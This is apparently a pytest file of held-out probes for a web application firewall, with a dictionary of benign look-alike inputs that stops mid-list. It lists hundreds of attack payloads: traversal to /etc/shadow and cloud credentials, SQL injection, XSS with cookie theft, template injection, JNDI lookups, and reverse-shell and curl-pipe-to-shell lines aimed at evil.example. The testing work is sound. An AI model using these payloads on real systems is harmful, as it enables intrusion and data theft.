"""WAF, part 2g: held-out probes for the classes issue 11 names from
corpora we do not have, written for this file (no string taken from a
corpus or a public list), through the real edge (shipped config, bans off).

Each attack is sent as a query value (URL-encoded once, and once more:
the edge decodes repeatedly) and as a JSON body field; each benign
look-alike in both placements must pass. The classes: traversal written
with overlong UTF-8, %u or fullwidth dots and slashes; Windows drive
paths; time-based and Windows commands after a separator; YAML/Ruby/
Python deserialization tags; template syntaxes beyond {{ }}; SQL booleans
without quotes and with typographic quotes; SVG/XML-namespaced and
CSS-based XSS; backtick command substitution; chaining with ; | && then an
ordinary command; hex-literal, IS NOT NULL, unary and backslash-escaped
SQL tautologies; paths with // or /./ segments or a file: URL. And their
false-positive classes: system paths mentioned in text, prose that starts
with a command word, command lines with flags in documentation, markdown
code spans, Python docstrings, file paths as values. A second round
added classes the development corpora's misses named (written here
before any change was measured): delays (ping with a count to loopback),
host-information commands as a whole value, a backtick span after one
argument-like token, number OR TRUE, JavaScript booleans and statements
after a breakout ($where), the mongo shell, format widths from the
arguments and marker runs, traversal with stripped separators, WEB-INF,
server logs, redirect parameters; with look-alikes for each.

A probe the edge gets wrong today is listed in KNOWN_MISSES or
KNOWN_FALSE_POSITIVES with the reason, and runs as a strict xfail: it
fails the suite the day it starts to pass, so the list stays true."""
import urllib.parse

import pytest

from wafkit import (WafEdge, assert_passes_everywhere,
                    assert_refused_everywhere, no_lua_errors, probe_cases,
                    probe_placements, refused, session, waf_config)

CONF = waf_config()

# Percent escapes in these are kept as written (the attacker's own).
ENCODED_TRAVERSAL = [
    "%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afvar%c0%aflog%c0%afmessages",
    "..%u2216..%u2216..%u2216boot.ini",
    "%u002e%u002e%u002f%u002e%u002e%u002fetc%u002fgroup",
    "%e0%80%ae%e0%80%ae/%e0%80%ae%e0%80%ae/etc/hostname",
    "..%c1%9c..%c1%9cwindows%c1%9csystem32%c1%9cdrivers%c1%9cetc%c1%9chosts",
    "%c0%2e%c0%2e%c0%2f%c0%2e%c0%2e%c0%2fetc%c0%2fissue",
    "%uff0e%uff0e%uff0f%uff0e%uff0e%uff0fetc%uff0fpasswd",
    "..%25c0%25af..%25c0%25afetc%25c0%25afshadow",
    "%2e%2e%5c%2e%2e%5cwinnt%5cwin.ini",
]

ATTACKS = {
    "windows-drive": [
        "C:\\Windows\\System32\\config\\SAM",
        "c:/windows/system.ini",
        "D:\\inetpub\\wwwroot\\web.config",
        "file:///C:/Windows/win.ini",
        "..\\..\\..\\Windows\\System32\\drivers\\etc\\hosts",
        "C:\\boot.ini",
    ],
    "command-after-separator": [
        "x; sleep 15",
        "1 && ping -n 20 127.0.0.1",
        "a| timeout /t 10",
        "foo & waitfor /t 5 SIG",
        "bar; powershell Start-Sleep 9",
        "z || type C:\\boot.ini",
        "1;ver",
        "abc & dir c:\\",
        "a | net user",
        "4 && systeminfo",
        "9| tasklist /v",
        "k; whoami /priv",
        "1|sleep 7",
        "x;usleep 5000000",
    ],
    "deserialization": [
        "!!python/object/apply:os.system ['id']",
        "--- !ruby/object:Gem::Installer\n i: x",
        "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader "
        "[[!!java.net.URL [\"http://evil.example/\"]]]]",
        "!ruby/hash:ActionController::Routing::RouteSet::NamedRouteCollection",
        "!!python/object/new:subprocess.check_output [['ls']]",
        "--- !ruby/object:OpenStruct\ntable: {}",
        "!<tag:yaml.org,2002:python/object/apply:os.system> ['id']",
    ],
    "template": [
        "${7*191}", "#{7*7}", "<%= 7*7 %>", "{{=7*7}}",
        "*{T(java.lang.Runtime).getRuntime().exec('id')}",
        "{% import os %}{{ os.popen('id').read() }}",
        "${{13*13}}", "@(13*13)", "#set($x=7*7)$x", "[[${7*7}]]",
        "{php}echo 1;{/php}",
        "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "${T(java.lang.System).getenv()}", "{{7*'7'}}", "<%= system('id') %>",
        "#{ 3 * 3 }", "{{ config.items() }}", "{{request.application.__globals__}}",
    ],
    "sql-boolean": [
        "5 OR 2>1", "3 and 8=8",
        "x\u2019 OR \u20181\u2019=\u20181", "name\u2018 or 1=1 -- ",
        "0 || 1=1", "1 AND TRUE--", "99 or not false",
        "7 OR 3 BETWEEN 1 AND 5", "2 or 1 like 1", "1) or (2=2",
    ],
    "xss-svg-xml-css": [
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">x</text></a></svg>",
        "<div style=\"background:url(javascript:alert(1))\">",
        "<p style=\"width:expression(alert(1))\">",
        "<style>@import \"//evil.example/x.css\";</style>",
        "<svg><set attributeName=onmouseover to=alert(1)>",
        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x",
        "<html:img xmlns:html=\"http://www.w3.org/1999/xhtml\" src=x onerror=alert(1)>",
        "<svg><script xlink:href=data:,alert(1)></script>",
        "<div style=\"behavior:url(x.htc)\">",
        "<b style=\"-moz-binding:url(//evil.example/x.xml#a)\">",
    ],
    "backticks": [
        "`uname -a`", "name=`cat /etc/issue`", "x`sleep${IFS}5`", "a`id`b",
        "`whoami`",
    ],
    "chaining": [
        "; id", "| id", "&& id", "x;uname", "1|head /etc/hosts",
        "a && curl evil.example", "; $0 -c id", "| bash -i", ";env", "&& ls",
        "|| date", "q; hostname", "7 | wc -l", "b && cat .env", "&& printenv",
        "x; nc evil.example 4444",
    ],
    "sql-tautology": [
        "' or 0x41=0x41 --", "1' or 'x' is not null--", "' OR -1=-1#",
        "\\' or 2>1 --", "' or ~1--", "' OR x'41'=x'41'/*", "1' or !0 --",
        "' || 1 #", "' or 1 is not null --", "\" or 0x1=0x1 --",
        "' or +1=+1 --", "') or (0x10=16) --",
    ],
    # (second round, 2026-12-01 late: classes the dev corpora's misses
    # named, probes written before any change)
    # a delay primitive: ping with a count to loopback does nothing else
    "time-delay-command": [
        "ping -n 25 127.0.0.1", "ping -c 9 localhost", "ping.exe -n 40 127.0.0.1",
        "ping -i 2 -c 30 ::1", "ping6 -c 10 ::1", "PING -N 12 127.0.0.2",
        "note\nping -c 20 127.0.0.1", "q\nping -c 12 localhost",
    ],
    # a command that only prints what the host is, with options only, as
    # the whole value
    "host-recon-command": [
        "uname -a", "ifconfig -a", "netstat -an", "ipconfig /all", "whoami /groups",
        "tasklist /svc", "uname --kernel-release",
    ],
    # a backtick span that is all that follows one argument-like token:
    # a substitution appended to the argument, not a code span in a text
    "backtick-after-argument": [
        "1 `ping -c 3 evil.example`", "42 `id`", "x7 `uname -a`", "5 `sleep 10`", "a-1 `whoami`", "9.9 `ls -la`",
    ],
    # a number, OR and the literal TRUE: true whatever the row
    "sql-or-true": ["1 or true", "12 OR True", "0 || true", "77 or (true)"],
    # a marker run (the same letter 4+ times: it shows as 41414141 in the
    # output) glued to a directive, a width or precision read from the
    # argument list (C only), a positional argument with its "$"
    # shell-escaped
    "format-string-star": [
        "BBBB%x", "zzzzzz%p", "QQQQ.%s", "kkkkk%08x", "%*p", "%.*s", "%*.*x", "%2\\$hn", "%1\\$n", "zz%*x",
    ],
    # separators stripped by a filter that deletes "/" and "\": the dots
    # run and the OS target glued to it
    "traversal-stripped-separators": [
        "......etcshadow", "....etcgroup", "........procselfenviron",
        "....windowswin.ini", "c:windowssystem32configsam",
        "d:winntsystem32", "..........etcissue",
    ],
    # a Java web application's private directory, like /etc for the OS
    "app-server-private": [
        "WEB-INF/web.xml", "/WEB-INF/classes/app.properties", "META-INF/context.xml",
        "web-inf\\web.xml",
    ],
    # what the look-alikes below must not let through
    "dot-and-parent-still-attacks": [
        ".git/config", ".ssh/id_rsa", "../.env", "../config.php", "../../../../images/x.png",
        "../../../etc/passwd", "..\\web.config",
    ],
    # a JavaScript boolean in a $where clause: the quote closed, a chain
    # of operands, a comparison that is always true
    "js-boolean-breakout": [
        "' || this || 'q'=='q", "x' && this.name != 'y", "\" || doc || 2==2 || \"",
        "' || this.a || 5===5 || '",
    ],
    # a JavaScript statement after a quote breakout ($where runs the
    # string as JS): the literal closed, ";", a statement, another ";"
    "js-statement-breakout": [
        "t'; return true; var z='", "a'; return this.pw; var q='",
        "x\"; var y=1; return y; var z=\"", "n'; let k=1; return k == 1; var m='",
    ],
    # the MongoDB shell's statements and query operators in a value
    "mongo-shell": [
        "db.users.drop()", "x'); db.accounts.remove({}); ('", "db.getCollection('users').find()",
        "db.dropDatabase()", "1; db.orders.insertOne({a:1})", "{a: 1, $comment: 'x'}",
    ],
    # a scheme-relative URL given to a redirect parameter inside a value:
    # "starts with /" same-site checks pass it, browsers leave the site
    "redirect-parameter": [
        "/login?next=//attacker.test/x", "?return_to=//phish.test",
        "/sso?redirect_uri=//evil.test/cb", "a=1&goto=//bad.test",
        "/auth?continue=//x.test/", "?returnUrl=//evil.test",
    ],
    # a URL anywhere in a value whose host is an IP written in a notation
    # only evasion uses (one number, hex or octal parts)
    "obfuscated-ip-host": [
        "<a href=\"http://3232235777/\">x</a>", "<img src='http://0x7f.0x0.0x0.0x1/a.png'>",
        "<a href=\"http://0300.0250.0001.0001/\">go</a>", "see http://0xc0a80101/admin",
        "link: https://user@0x5c.0x66.07.0223/x",
    ],
    # a web server's own log by its name at the end of an absolute path
    # (log poisoning then inclusion)
    "server-log-file": [
        "/opt/app/logs/error_log", "/usr/local/apache/logs/access_log",
        "/srv/www/logs/error_log", "c:\\apache\\logs\\access_log",
    ],
    "path-spelling": [
        "/etc//shadow", "/./etc/./hosts", "file:///etc/group",
        "file://localhost/etc/hosts", "////etc/passwd",
        "/var//log/../../etc/passwd", "/etc/.//passwd", "file:/etc/passwd",
        "/proc//self//cmdline",
    ],
    # Python and Ruby code outside a template (written before the rules
    # python-injection and ruby-injection existed: 7 of 21 refused; then
    # 21 of 21; and 6 more written after them: 6 of 6)
    "r3-python-ruby": [
        "__import__('os').system('id')",
        "__import__(\"subprocess\").check_output(\"id\",shell=True)",
        "().__class__.__bases__[0].__subclasses__()",
        "''.__class__.__mro__[1].__subclasses__()[40]('/etc/passwd').read()",
        "[].__class__.__base__.__subclasses__()", "os.system('cat /etc/passwd')",
        "os.popen(\"id\").read()", "eval(compile('print(1)','x','exec'))",
        "exec(\"import os; os.system('ls')\")", "getattr(__builtins__,'ev'+'al')('1+1')",
        "globals()['__builtins__']['eval']('1')", "lambda: __import__('os')",
        "Kernel.exec('id')", "Kernel.system(\"ls -la\")", "%x(id)", "%x{cat /etc/passwd}",
        "IO.popen('id').read", "Open3.capture2('id')", "Kernel.open('|id')",
        "send(:system, 'id')", "instance_eval(\"system('id')\")",
    ],
    "r3-python-ruby-after": [
        "__import__('pty').spawn('/bin/sh')",
        "x.__class__.__init__.__globals__['os'].popen('id')", "os.execvp('sh', ['sh'])",
        "Kernel.spawn('nc -e sh evil.example 1')", "%x[uname -a]", "IO.popen(['id']).read",
    ],
    # command injection, more spellings (written before the last changes:
    # 26 of 30; then argument injection, %COMSPEC% /c: 29 of 30)
    "r3-command-lines": [
        "a\nid", "x\r\nwhoami", ";%COMSPEC% /c dir",
        "& %SystemRoot%\\system32\\cmd.exe /c ver", "|| powershell -c \"iwr evil.example\"",
        "; pwsh -c id", "& cmd.exe /c \"type C:\\boot.ini\"", ";cat$IFS/etc/passwd",
        ";{ls,-la}", ";ls${IFS}-la", "x;/usr/bin/id", "x|/bin/cat /etc/hosts",
        "x;$(which id)", "1;uname", "x&&whoami", "x||ver", "--help;id", "-exec id \\;",
        "-oProxyCommand=id", "--output=/var/www/html/x.php",
        "x; echo cHduZWQ= | base64 -d > /tmp/p", "; sh -i",
        "| nc evil.example 80 < /etc/passwd", "127.0.0.1 && dir", "8.8.8.8 | ipconfig",
        "localhost; cat /etc/passwd", "; sleep 10 #", "& ping -n 11 127.0.0.1 &",
        "$(sleep 7)", "`sleep 7`",
    ],
    # traversal, more spellings (30 of 30 refused as written)
    "r3-traversal": [
        "..%2f..%2f..%2fetc%2fpasswd", "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "..%255c..%255cboot.ini", "....//....//....//etc/hosts",
        "..///////..////..//////etc/passwd", "/..\\..\\..\\windows\\win.ini",
        "..\\..\\..\\..\\..\\..\\..\\..\\etc\\passwd", "/%5C../%5C../%5C../etc/passwd",
        "%252e%252e%252fetc%252fpasswd", "/etc/passwd%00", "../../../../etc/passwd%00.png",
        "....\\/....\\/etc/passwd", "/static/../../../../etc/shadow",
        "/var/www/html/../../../etc/group", "../../../../../../proc/self/fd/0",
        "..\\..\\..\\inetpub\\logs\\LogFiles", "/./../../../etc/hostname",
        "%2e%2e/%2e%2e/%2e%2e/home/user/.ssh/id_rsa", "..%u2215..%u2215etc%u2215passwd",
        "..%e0%80%af..%e0%80%afetc%e0%80%afpasswd", "..;/WEB-INF/web.xml", "/..;/..;/admin",
        "....%2F....%2Fetc%2Fpasswd", "%2e%2e%5c%2e%2e%5cwindows%5csystem.ini",
        "/proc/1/environ", "../../../../var/lib/mysql/mysql/user.MYD", "~root/.bash_history",
        "../.git/HEAD", "..\\..\\Users\\Administrator\\NTUSER.DAT",
        "C:\\Windows\\repair\\SAM",
    ],
    # XSS and SQL, more spellings (30 of 30 and 30 of 30 as written)
    "r3-xss": [
        "<img/src=x onerror=alert(1)>", "<svg><g onload=alert(1)></g></svg>",
        "<audio src=x onerror=prompt(1)>", "<textarea autofocus onfocus=alert(1)>",
        "<keygen autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>", "<a href=\"javas&#99;ript:alert(1)\">",
        "<img src=x oneRRor=alert(1)>", "<img src=x onerror=\"&#97;lert(1)\">",
        "<iframe src=\"javascript:alert(1)\">", "<object data=javascript:alert(1)>",
        "<svg><animatetransform onbegin=alert(1)>", "<div onpointerover=alert(1)>x</div>",
        "<img src=1 onerror=eval(atob('YWxlcnQoMSk='))>", "'><img src=x onerror=alert(1)>",
        "\" autofocus onfocus=\"alert(1)", "';alert(String.fromCharCode(88,83,83))//",
        "</title><script>alert(1)</script>", "</textarea><svg onload=alert(1)>",
        "<script src=//evil.example/x.js></script>",
        "<script>fetch('//evil.example?c='+document.cookie)</script>",
        "<img src=x:x onerror=location='//evil.example/'+document.cookie>",
        "<svg/onload=top['al'+'ert'](1)>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<input onblur=alert(1) autofocus><input autofocus>", "<body onresize=alert(1)>",
        "<a id=x tabindex=1 onfocusin=alert(1)></a>",
        "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    ],
    "r3-sql": [
        "1' AND 1=1 UNION SELECT table_name FROM information_schema.tables--",
        "1 AND (SELECT COUNT(*) FROM users) > 0", "' OR 'a'='a", "') OR ('a'='a",
        "1' ORDER BY 3--+", "1' AND SUBSTRING(@@version,1,1)='5",
        "admin' AND 1=0 UNION ALL SELECT 'admin', '81dc9bdb52d04dc20036dbd8313ed055'--",
        "1; UPDATE users SET role='admin' WHERE id=1--",
        "1'; INSERT INTO users VALUES('x','y')--", "' HAVING 1=1--",
        "' GROUP BY users.id HAVING 1=1--",
        "1 AND ASCII(SUBSTR((SELECT password FROM users LIMIT 1),1,1))>64",
        "-1' UNION SELECT 1,LOAD_FILE('/etc/passwd'),3--", "1 OR 1=1#",
        "' OR 1 IN (SELECT @@version)--", "' AND 1=(SELECT 1 FROM dual WHERE 1=1)--",
        "1' AND '1'='1' /*", "x' AND email IS NULL; --",
        "1' RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))--",
        "'||(SELECT 'x' FROM dual)||'", "1 AND 1=CAST((SELECT version()) AS int)",
        "';SHUTDOWN--", "1' AND EXISTS(SELECT * FROM users)--", "' UNION SELECT NULL,NULL#",
        "1) AND 1=1 AND (1=1", "%27%20OR%201%3D1--",
        "1'/**/UNION/**/SELECT/**/password/**/FROM/**/users--", "1' AND sleep(3) AND '1'='1",
        "' OR username LIKE '%admin%'--", "1; EXEC sp_configure 'show advanced options',1--",
    ],
    # (written after the third round's change: 20 of 20 refused)
    "r3-after-change": [
        "1' AND ascii(substring(version(),1,1))>52--", "1 or pg_sleep(3)--",
        "\" onmouseover=\"alert(1)", "<svg onload=confirm`1`>",
        "<a href=javascript&colon;alert(1)>x</a>",
        "..\\\\..\\\\..\\\\inetpub\\\\wwwroot\\\\web.config", "/../../../../var/log/auth.log",
        "; curl -s evil.example/p | sh", "`wget evil.example -O /tmp/x`", "$(nc -lvp 9001)",
        "|| cat /etc/hosts", "<?php echo file_get_contents('/etc/hosts'); ?>",
        "${jndi:dns://evil.example/x}",
        "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}",
        "'; exec master..xp_dirtree '\\\\evil.example\\x'--", "x' or 1=1 limit 1 offset 0 --",
        "<body background=\"javascript:alert(1)\">", "file:///etc/hostname",
        "ping -c 10 127.0.0.1 ; id", "eval(atob('YWxlcnQoMSk='))",
    ],
    # (third round, 2026-12-02: the five categories the other
    # corpora measure, in forms the first two rounds did not write:
    # stacked, time- and error-based and obfuscated SQL, NoSQL operators,
    # rarer XSS vectors, wrappers and traversal spellings, command lines
    # that fetch or spawn, PHP/Java/Node/Python/Ruby code; written and
    # measured before any change: 132 of 141 refused)
    "r3-sqli-stacked-time": [
        "1; DROP TABLE users--", "1'; EXEC xp_cmdshell('dir')--",
        "1); WAITFOR DELAY '0:0:5'--", "1 AND SLEEP(5)",
        "1' AND (SELECT 1 FROM (SELECT SLEEP(5))x)--", "1;SELECT pg_sleep(5)--",
        "' OR BENCHMARK(10000000,MD5(1))#", "1 WAITFOR DELAY '00:00:05'",
        "1 AND 1=(SELECT 1 FROM PG_SLEEP(5))",
    ],
    "r3-sqli-error": [
        "1 AND extractvalue(1,concat(0x7e,version()))",
        "1 AND updatexml(1,concat(0x7e,user()),1)", "' AND 1=CONVERT(int,@@version)--",
        "1 AND (SELECT 1 FROM(SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)",
    ],
    "r3-sqli-union-obf": [
        "-1 UNION ALL SELECT NULL,NULL,NULL--", "0 union/**/select/**/1,2",
        "1 UnIoN SeLeCt @@version", "' union select username, password from users--",
        "1 union(select(1),(2))", "1/*!50000UNION*//*!50000SELECT*/1,2", "1'/**/OR/**/'1'='1",
        "1 ORDER BY 10--", "1' GROUP BY 1,2,3--+", "admin'--", "admin' #", "admin'/*",
        "' or ''='", "' || (SELECT banner FROM v$version WHERE rownum=1) || '",
        "' AND DBMS_PIPE.RECEIVE_MESSAGE('a',5)='a", "' AND 1=randomblob(500000000)--",
        "1 INTO OUTFILE '/var/www/html/x.php'", "1 AND LOAD_FILE('/etc/passwd')",
    ],
    "r3-nosql": [
        "{\"$ne\": null}", "{\"$gt\": \"\"}", "{\"$regex\": \".*\"}", "'; return '' == '",
        "{\"$where\": \"sleep(5000)\"}",
    ],
    "r3-xss-rare": [
        "<details open ontoggle=alert(1)>", "<body onpageshow=alert(1)>",
        "<input autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)>",
        "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
        "<form action=javascript:alert(1)><input type=submit>",
        "javascript:alert(document.domain)", "\"><svg/onload=alert(1)>", "'-alert(1)-'",
        "</script><script>alert(1)</script>",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<base href=\"javascript:/a/-alert(1)///////\">",
        "<embed src=\"javascript:alert(1)\">", "{{constructor.constructor('alert(1)')()}}",
        "<x onclick=alert(1)>click", "<marquee onstart=alert(1)>",
        "<img src=x onerror=alert`1`>", "<svg><script>alert&#40;1&#41;</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "data:text/html,<script>alert(1)</script>", "javascript://%0aalert(1)",
        "\";alert(1);//", "<img src=\"x\"\nonerror=\"alert(1)\">",
    ],
    "r3-traversal-more": [
        "....//....//etc/passwd", "..;/..;/etc/passwd", "..%252f..%252fetc%252fpasswd",
        "/var/www/../../etc/passwd", "php://filter/convert.base64-encode/resource=index.php",
        "php://input", "expect://id", "zip://shell.jpg%23payload.php",
        "phar://uploads/x.jpg/x", "data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOyA/Pg==",
        "file:///proc/self/environ", "/proc/self/cmdline", "\\\\?\\C:\\Windows\\win.ini",
        "\\\\evil.example\\share\\x", "/etc/passwd%00.jpg",
        "....\\\\....\\\\windows\\\\win.ini", "..%5c..%5cwindows%5cwin.ini",
        "/.%2e/.%2e/etc/passwd", "/static/..%2f..%2f..%2fetc/passwd", "/root/.ssh/id_rsa",
        "~/.aws/credentials", "/var/run/secrets/kubernetes.io/serviceaccount/token",
        "C:/inetpub/wwwroot/web.config", "/etc/shadow",
    ],
    "r3-cmdi-more": [
        "$(id)", "$(curl evil.example|sh)", "cat${IFS}/etc/passwd", ";{cat,/etc/passwd}",
        "a\nid", "|| ping -c 5 127.0.0.1", "& nslookup evil.example &",
        ";curl http://evil.example/x.sh | bash", "; wget -O- evil.example | sh", "$(sleep 5)",
        ";sleep$IFS'5'", ";/bin/sh -c 'id'", "| powershell -enc SQBFAFgA",
        "& certutil -urlcache -f http://evil.example/x.exe x.exe",
        ";python -c 'import os;os.system(\"id\")'", ";perl -e 'exec \"/bin/sh\"'",
        ";nc -e /bin/sh evil.example 4444", ";bash -i >& /dev/tcp/evil.example/4444 0>&1",
        "c'a't /e't'c/pa's's'wd", "/???/??t /???/p??s??", "\\c\\a\\t /etc/passwd",
        "echo aWQ= | base64 -d | sh", "|cmd /c whoami", ";%COMSPEC% /c dir",
        "& ping -n 5 127.0.0.1 &", "x;w",
    ],
    "r3-code-more": [
        "<?php system($_GET['c']); ?>", "<?= `id` ?>", "phpinfo();", "${@phpinfo()}",
        "eval(base64_decode('aWQ='));", "assert($_POST[x])", "system('id');",
        "passthru('id')", "shell_exec('id')", "O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}",
        "${jndi:ldap://evil.example/a}", "${${lower:j}ndi:${lower:l}dap://evil.example/a}",
        "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}",
        "#{T(java.lang.Runtime).getRuntime().exec('id')}",
        "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
        "${Runtime.getRuntime().exec(\"id\")}", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
        "require('child_process').exec('id')",
        "process.mainModule.require('child_process').execSync('id')",
        "this.constructor.constructor('return process')()",
        "{\"__proto__\":{\"admin\":true}}", "__import__('os').system('id')",
        "().__class__.__bases__[0].__subclasses__()",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "cos\nsystem\n(S'id'\ntR.",
        "#{`id`}", "Kernel.exec('id')", "%x(id)", "open(F,\"|id\")", "*{7*7}",
    ],
}

BENIGN = {
    "system-path-in-text": [
        "Logs live in /var/log/nginx by default on Debian.",
        "Edit /etc/hosts to map the name locally.",
        "The binary is installed to /usr/bin/python3.",
        "Windows keeps drivers in C:\\Windows\\System32\\drivers.",
        "My config is at /home/anna/.config/app/settings.toml",
        "Check /proc/cpuinfo for the CPU flags.",
        "Certificates go in /etc/ssl/certs on most distros",
        "Backups are written to /var/backups every night",
        "see /usr/share/doc/nginx/README for details",
        "Put the key in ~/.ssh/authorized_keys and restart sshd",
    ],
    "prose-starting-with-a-command-word": [
        "Python3 caching library for async apps", "Find the best coffee near you",
        "Sort by date, newest first", "Make sure to bring a jacket",
        "Kill time at the museum before lunch", "Sleep well and see you tomorrow",
        "Echo Park farmers market on Sunday", "Time to go home",
        "Cat pictures from the weekend", "Top 10 hiking trails",
        "Date night at the bistro", "Touch base with Anna about the report",
        "Ping me when you arrive", "Curl up with a book",
        "Tail end of the season; wait for the sale", "Head south and then wait",
        "Less is more | minimalism", "Nice view & good food", "Yes, and no",
        "Which one? Who knows", "Watch the game tonight; nothing else",
        "Export the report as PDF", "Set up the tent; then eat",
        "Read the docs and sleep on it", "Open Monday-Friday, closed Sunday",
        "Test results: all green & ready", "Free wifi | power outlets | quiet",
        "Type your name here", "Go ahead, make my day",
    ],
    "command-lines-in-docs": [
        "Run `pip install -U requests` to upgrade.",
        "Use ls -la to see hidden files.",
        "git commit -m 'fix typo' && git push",
        "docker run --rm -it debian:bookworm bash",
        "tar -xzf archive.tar.gz -C /tmp/out",
        "curl -sS https://example.com/api | jq .",
        "grep -rn TODO src/",
        "To check connectivity, run ping -c 4 example.com",
        "Install with: sudo apt-get install -y nginx",
        "make && make install",
        "python3 -m venv .venv && . .venv/bin/activate",
        "npm ci --omit=dev", "kubectl get pods -n kube-system",
        "ssh -p 2222 user@host.example", "find . -name '*.pyc' -delete",
        "echo $HOME", "export PATH=$PATH:~/bin", "cd docs; make html",
    ],
    "markdown": [
        "Set `DEBUG=false` in production.", "Call `json.loads(text)` on the body.",
        "The `--dry-run` flag prints what would change.",
        "```bash\nmake test\n```",
        "Use **bold** and _italics_; `code` for names.",
        "- [x] write tests\n- [ ] ship it",
        "| col | value |\n|---|---|\n| a | 1 |",
        "See [the docs](https://example.com/docs/index.html#setup)",
        "> quote: be kind", "Use `id` to print your user and group ids.",
        "The `date` command prints the time.", "Run `whoami` to see your login name.",
    ],
    "docstrings-and-code": [
        "\"\"\"Return the user's id.\n\n    Args:\n        name: the login name.\n    \"\"\"",
        "def double(x):\n    return x * 2",
        "Raises:\n    ValueError: if the path does not exist.",
        ">>> sorted([3, 1, 2])\n[1, 2, 3]",
        "# TODO(anna): handle the empty case",
        "for i in range(10):\n    print(i)",
        "if x is not None and y > 0:\n    pass",
        "import os\nos.path.join(base, 'docs', 'readme.md')",
    ],
    "file-paths": [
        "docs/readme.md", "src/app/main.py", "./configure --prefix=/usr/local",
        "~/Downloads/report.pdf", "C:\\Users\\anna\\Documents\\notes.txt",
        "assets/css/site.min.css", "tests/fixtures/sample.json", "README.md",
        "photos/2026/11/IMG_0042.JPG", "lib/python3.11/site-packages",
        "D:\\Photos\\Holiday 2025\\beach.jpg", "/api/v2/users/42/orders?page=2",
    ],
    "look-alike-text": [
        "Price: ${price} per unit", "Hello {{name}}!",
        "Use #{interpolation} in Ruby strings", "Total: $5 (incl. tax)",
        "Meeting @ 10:30 {room 4}", "Rate: 4/5 stars", "50% off <today only>",
        "Use <br> for line breaks", "a < b and c > d",
        "email me at anna+news@example.com", "I <3 coffee",
        "Tom & Jerry or Mickey", "rock 'n' roll", "It's 5 o'clock",
        "O'Reilly books or Manning books", "me & you || them",
        "Select your size: S, M or L", "Order by Friday to get it Monday",
        "Drop me a line", "Update: the union meeting is moved", "1 or 2 people",
        "true or false?", "either 3 or 4 days", "Where is the nearest station?",
        "Table for 2, or 3 if Bob comes", "Sleep 8 hours or more",
        "I'd like 2 or 3 more", "Count me in, or not",
        "tags: [a, b]", "key: !!str 123", "date: !!timestamp 2026-01-01",
    ],
    # (second round) look-alikes of the classes above
    "recon-commands-in-text": [
        "uname -a output: Linux 6.1", "Run uname -a to see the kernel",
        "netstat -an | grep 443", "ipconfig /all shows the DNS servers",
        "whoami prints your login", "uname -r; lsb_release -a",
    ],
    "code-spans-in-lists-and-text": [
        "1. `npm install`", "2) `make test`", "- `git pull`", "Step 1 `ls`",
        "v1.2 `stable`", "3 `apples`", "Q4 `date` report", "3: `whoami`",
    ],
    "ip-urls-and-numbers-in-text": [
        "<a href=\"http://192.168.1.1/\">router</a>", "order 3232235777 shipped",
        "http://example.com/0x1234", "<a href=\"http://10.0.0.1:8080/\">admin</a>",
        "version 0x7f.0x1 released", "see https://example.com/v/0300.0250",
    ],
    "redirects-and-logs-in-text": [
        "/login?next=/dashboard", "?next=%2Fhome", "see //cdn.example.com/lib.js",
        "/login?next=https://app.example.com/home", "url=//cdn.example.com/x.js",
        "error_log() writes to the server log", "set error_log in php.ini",
        "logs/access_log", "the access_log directive", "next=//",
    ],
    "db-and-this-in-text": [
        "db.example.com", "see db.py for the models", "mydb.users table is slow",
        "db.sqlite3", "this or that or the other", "Tom's or Anna's or Bob's = same",
        "it's this || that", "the db (database) is down",
        "it's ok; return it later; thanks", "Bob'; return to sender",
        "'; return'", "I'm out; let me know; bye", "Don't; var names differ; ok",
    ],
    "ping-and-delays-in-text": [
        "ping -c 4 example.com", "ping 127.0.0.1 works but ping localhost does not",
        "Ping localhost first to check the stack", "ping -c 1 192.0.2.10",
        "ping me at 10, localhost is down", "Sleep 15 minutes then retry",
    ],
    "booleans-in-text": [
        "true or false", "1 or 2", "2 or more", "Is it 1 or true?",
        "1 or true love", "0 or false", "3 or truer",
    ],
    "percent-in-text": [
        "50% * 2 = 100", "Save 10%*", "20%* off*", "a%*b", "100%.", "%s is 5%",
        "Use %d for integers in printf", "aaaa% of the time", "Loooong%20road",
        "Wooow%2e", "Yesss%", "10000%s", "zzzz % x",
    ],
    "ellipses-and-windows-words": [
        "Wait....what?", "loading......done", "apples, pears....etc.",
        "hmm....etcetera", "c: windows system", "c:windows", "Windows 11 Pro",
        "....and then the windows broke", "Step 1 ...proc2 failed", "wait..proc3",
    ],
    "dot-directories-and-relative-links": [
        ".vscode/settings.json", ".config/nvim/init.lua", "../assets/app.css",
        "../docs/setup.md", ".devcontainer/devcontainer.json",
